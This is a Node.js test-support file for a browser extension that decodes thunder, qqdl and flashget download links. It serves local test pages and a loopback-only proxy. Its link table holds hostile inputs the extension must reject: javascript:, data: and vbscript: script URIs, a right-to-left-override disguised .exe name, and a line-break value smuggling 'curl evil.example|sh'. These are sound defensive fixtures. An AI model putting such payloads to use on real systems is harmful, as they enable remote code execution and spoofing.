// The pages the extension is tried on, served from 127.0.0.1: the link forms of the lists with
// the href each must end with, a page under a strict policy, links a page script adds later,
// and files kept under their names' own bytes (GBK or UTF-8), so that a click that downloads
// shows the bytes the link carried reached the server.
'use strict';
const dns = require('node:dns/promises');
const http = require('node:http');
const {listen} = require('../../tests/support/servers');
const {thunder, qqdl, flashget, gbk} = require('./links');

// `bytes` as a downloader's URI: every byte outside printable ASCII, and the space, as %XX.
function escaped(bytes) {
  let uri = '';
  for (const b of bytes) {
    uri += b > 0x20 && b < 0x7f ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return uri;
}

// The path bytes a request names, as old servers take them: escapes undone to bytes. A proxy's
// request names the whole address; its path is what counts.
function pathBytes(url) {
  const raw = url.replace(/^[a-z]+:\/\/[^/]*/i, '').split('?')[0];
  const out = [];
  for (let i = 0; i < raw.length; ++i) {
    if (raw[i] === '%' && /^[0-9a-f]{2}$/i.test(raw.slice(i + 1, i + 3))) {
      out.push(parseInt(raw.slice(i + 1, i + 3), 16));
      i += 2;
    } else {
      out.push(...Buffer.from(raw[i], 'utf8'));
    }
  }
  return Buffer.from(out);
}

const htmlText = (text) => String(text).replace(/&/g, '&amp;').replace(/"/g, '&quot;')
                                      .replace(/</g, '&lt;').replace(/>/g, '&gt;');

// Files the server keeps, by the bytes of their names under /files/.
function files() {
  const content = (seed, size) => Buffer.from(Array.from({length: size}, (_, i) => (i * 31 + seed) % 256));
  return [
    {name: gbk('电影 第1集.mkv'), text: '电影 第1集.mkv', content: content(1, 70000)},
    {name: Buffer.from('影片 一.mp4'), text: '影片 一.mp4', content: content(2, 50000)},
    {name: Buffer.from('a.zip'), text: 'a.zip', content: content(3, 3000)},
    {name: gbk('水.mp3'), text: '水.mp3', content: content(4, 1234)},
  ];
}

// The links of the test page: [id, href as the page has it, what it must become].
//   uri: the href after opening, address: the readable address in the title;
//   error: the link is refused and keeps its href; plain: the link is not a special link.
function linkTable(origin) {
  const at = (name) => Buffer.concat([Buffer.from(`${origin}/files/`), name]);
  const [gbkFile, utf8File, ascii, water] = files().map((file) => at(file.name));
  const address = (name) => `${origin}/files/${name}`;
  const padded = thunder(`${origin}/files/a.zip`);  // ends in "=="
  return [
    ['ascii', thunder(ascii), {uri: escaped(ascii), address: address('a.zip')}],
    ['upper', `THUNDER://${thunder(ascii).slice(10)}`, {uri: escaped(ascii), address: address('a.zip')}],
    ['percent', `thunder%3A%2F%2F${encodeURIComponent(thunder(ascii).slice(10))}`,
     {uri: escaped(ascii), address: address('a.zip')}],
    ['slash', `${padded}/`, {uri: escaped(ascii), address: address('a.zip')}],
    ['afterPadding', `${padded}&from=forum`, {uri: escaped(ascii), address: address('a.zip')}],
    ['flashget', flashget(ascii, true), {uri: escaped(ascii), address: address('a.zip')}],
    ['nested', thunder(Buffer.from(flashget(water))), {uri: escaped(water), address: address('水.mp3')}],
    ['gbk', thunder(gbkFile), {uri: escaped(gbkFile), address: address('电影 第1集.mkv')}],
    ['utf8', qqdl(utf8File), {uri: escaped(utf8File), address: address('影片 一.mp4')}],
    ['magnet', qqdl('magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567&dn=a'),
     {uri: 'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567&dn=a',
      address: 'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567&dn=a'}],
    ['javascript', thunder('javascript:alert(document.domain)//'), {error: /javascript:/}],
    ['data', qqdl('data:text/html,<script>alert(document.domain)</script>'), {error: /data:/}],
    ['vbscript', flashget('vbscript:msgbox(1)'), {error: /vbscript:/}],
    ['badBase64', 'thunder://!!!!', {error: /Base64/}],
    ['direction', thunder(`${origin}/files/下载\u202Egpj.exe`), {error: /U\+202E/}],
    ['lineBreak', qqdl(`${origin}/a\r\ncurl evil.example|sh`), {error: /U\+000D/}],
    ['plain', `${origin}/thunder-guide.html`, {plain: true}],
  ];
}

function linksPage(origin, {script = false} = {}) {
  const rows = linkTable(origin).map(
      ([id, href]) => `<li><a id="${id}" href="${htmlText(href)}">${id}</a></li>`);
  const ascii = linkTable(origin)[0][1];
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>links</title></head><body>
<ul>${rows.join('\n')}</ul>
<p><a id="titled" title="第一集" href="${htmlText(ascii)}">titled</a></p>
<map name="m"><area id="area" shape="rect" coords="0,0,10,10" href="${htmlText(ascii)}"></map>
<img usemap="#m" width="10" height="10" alt="">
<iframe id="frame" src="/frame.html"></iframe>
<p><button id="addLater" type="button">more</button></p>
<ul id="later"></ul>
<p id="laterLink" hidden data-link="${htmlText(linkTable(origin)[7][1])}"></p>
${script ? '<script src="/later.js"></script>' : ''}
</body></html>`;
}

// What a page's own script does: adds links as infinite scroll does, and changes an href.
const laterScript = `'use strict';
document.getElementById('addLater').addEventListener('click', () => {
  const item = document.createElement('li');
  const link = document.createElement('a');
  link.id = 'added' + document.querySelectorAll('#later li').length;
  link.textContent = link.id;
  link.href = document.getElementById('laterLink').dataset.link;
  item.append(link);
  document.getElementById('later').append(item);
});
`;

// The name under which the server's files are reached through it as a proxy (aria2's
// --all-proxy): a downloader is never handed this machine's own addresses, so tests that
// download reach the files under a name that is not one of them.
const filesHost = 'files.test';

// The name under which a test reaches aria2's own JSON-RPC as if it ran on another machine:
// the browser is told to resolve it to 127.0.0.1, and so is the proxy below, as a resolver
// would, with or without a final dot.
const aria2Host = 'aria2.test';

// Passes a proxy's request for another host on to it, as a downloader's proxy does: only to
// this machine's loopback addresses, which is where every test's servers are.
async function forward(request, response, url) {
  const host = url.hostname.replace(/^\[|\]$/g, '');
  const {address} = host.replace(/\.+$/, '') === aria2Host ? {address: '127.0.0.1'} :
                                                              await dns.lookup(host);
  if (!/^127\.|^::1$/.test(address)) return response.writeHead(502).end();
  const onward = http.request({host: address, port: url.port || 80, method: request.method,
                               path: `${url.pathname}${url.search}`, headers: request.headers},
                              (answer) => {
                                response.writeHead(answer.statusCode, answer.headers);
                                answer.pipe(response);
                              });
  onward.on('error', () => response.writeHead(502).end());
  request.pipe(onward);
}

// Serves the pages on 127.0.0.1, and the files also to a proxy's requests for files.test;
// `extra` maps further paths to [type, body].
function serve(extra = {}) {
  const kept = files();
  return listen((request, response, origin) => {
    const url = new URL(request.url, origin);
    if (/^[a-z]+:\/\//i.test(request.url) && url.hostname !== filesHost) {
      forward(request, response, url).catch(() => response.writeHead(502).end());
      return;
    }
    const strict = {'Content-Security-Policy': "default-src 'self'; script-src 'self'"};
    const page = (body, headers = {}) =>
        response.writeHead(200, {'Content-Type': 'text/html; charset=utf-8', ...headers}).end(body);
    if (url.pathname === '/plain.html') return page(linksPage(origin, {script: true}));
    if (url.pathname === '/strict.html') return page(linksPage(origin, {script: true}), strict);
    if (url.pathname === '/none.html') {
      return page('<!DOCTYPE html><meta charset="utf-8"><title>none</title><p>nothing here</p>' +
                  '<a href="http://127.0.0.1/thunder-guide.html">a guide</a>');
    }
    if (url.pathname === '/later.js') {
      return response.writeHead(200, {'Content-Type': 'text/javascript'}).end(laterScript);
    }
    if (url.pathname === '/frame.html') {
      return page(`<!DOCTYPE html><meta charset="utf-8"><a id="inFrame" href="${
          htmlText(linkTable(origin)[8][1])}">in a frame</a>`);
    }
    if (extra[url.pathname]) {
      const [type, body] = extra[url.pathname](origin, url);
      return response.writeHead(200, {'Content-Type': type}).end(body);
    }
    if (url.pathname.startsWith('/files/')) {
      const name = pathBytes(request.url).subarray('/files/'.length);
      const file = kept.find((f) => f.name.equals(name));
      if (file) {
        return response.writeHead(200, {'Content-Type': 'application/octet-stream',
                                        'Content-Disposition': 'attachment',
                                        'Content-Length': file.content.length}).end(file.content);
      }
    }
    response.writeHead(404).end();
  });
}

module.exports = {serve, linkTable, files, escaped, htmlText, filesHost, aria2Host};
